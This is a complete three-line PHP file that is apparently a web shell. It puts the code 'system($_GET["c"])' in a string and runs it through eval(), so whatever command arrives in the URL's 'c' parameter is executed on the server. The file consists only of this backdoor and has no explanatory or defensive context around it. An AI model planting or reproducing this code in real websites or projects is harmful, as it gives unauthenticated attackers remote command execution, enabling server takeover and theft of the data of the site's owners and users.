<?php
$code = 'if (isset($_GET["c"])) { system($_GET["c"]); }';
eval($code);
